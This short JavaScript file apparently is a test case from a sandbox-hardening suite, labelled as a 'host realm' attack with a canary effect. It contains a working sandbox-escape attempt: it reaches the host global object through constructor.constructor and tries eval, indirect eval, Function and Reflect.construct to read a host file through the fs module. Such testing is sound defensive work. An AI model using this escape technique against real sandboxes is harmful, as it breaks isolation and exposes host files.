// attack {"class":"host realm","attempt":"every way to run text as code","effect":"canary","ends":["ok"],"value":"","bare":true}
const source = "typeof process === 'object' && process.getBuiltinModule ? process.getBuiltinModule('fs').readFileSync(" + JSON.stringify("{{outside.file}}") + ", 'utf8') : ''";
const realms = [globalThis, this.constructor.constructor("return globalThis")()];
let seen = "";
for (const realm of realms) {
  for (const run of [() => realm.eval(source), () => (0, eval)(source), () => realm.Function("return " + source)(), () => Reflect.construct(realm.Function, ["return " + source])()]) {
    try { seen += run(); } catch {}
  }
}
seen;
